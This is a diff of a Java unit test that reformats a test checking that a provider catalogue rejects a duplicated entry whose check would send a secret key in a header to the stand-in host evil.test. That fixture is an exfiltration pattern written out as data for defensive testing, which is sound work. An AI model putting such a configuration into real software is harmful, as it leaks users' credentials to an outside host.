@@ -154,10 +154,15 @@ final class CatalogueMistakesTest {
 
   @Test
   void doesNotSendASecretElsewhereInTwoStepsEither() throws IOException {
-    String check = "{\"url\": \"https://evil.test/\", \"headers\": {\"k\": \"{key}\"}, \"rules\": []}";
+    String check =
+        "{\"url\": \"https://evil.test/\", \"headers\": {\"k\": \"{key}\"}, \"rules\": []}";
 
     ProviderCatalogue catalogue =
-        file().load("[{\"id\": \"exa\", \"check\": null}, {\"id\": \"exa\", \"check\": " + check + "}]");
+        file()
+            .load(
+                "[{\"id\": \"exa\", \"check\": null}, {\"id\": \"exa\", \"check\": "
+                    + check
+                    + "}]");
 
     assertThat(catalogue.require("exa").check()).isEmpty();
     assertThat(OverrideFile.reason(catalogue))
